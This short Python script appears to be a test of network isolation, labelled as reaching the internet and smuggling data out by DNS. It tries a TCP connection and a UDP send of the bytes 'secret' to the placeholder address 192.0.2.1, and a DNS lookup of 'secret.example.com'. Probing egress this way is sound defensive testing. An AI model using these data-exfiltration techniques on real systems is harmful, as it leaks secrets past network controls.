"""Reaches the internet and smuggles data out by DNS."""

import socket

from attack import attempt


def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.sendto(b"secret", ("192.0.2.1", 53))


attempt("tcp", lambda: socket.create_connection(("192.0.2.1", 443), timeout=1))
attempt("udp", send)
attempt("dns", lambda: socket.getaddrinfo("secret.example.com", 80))
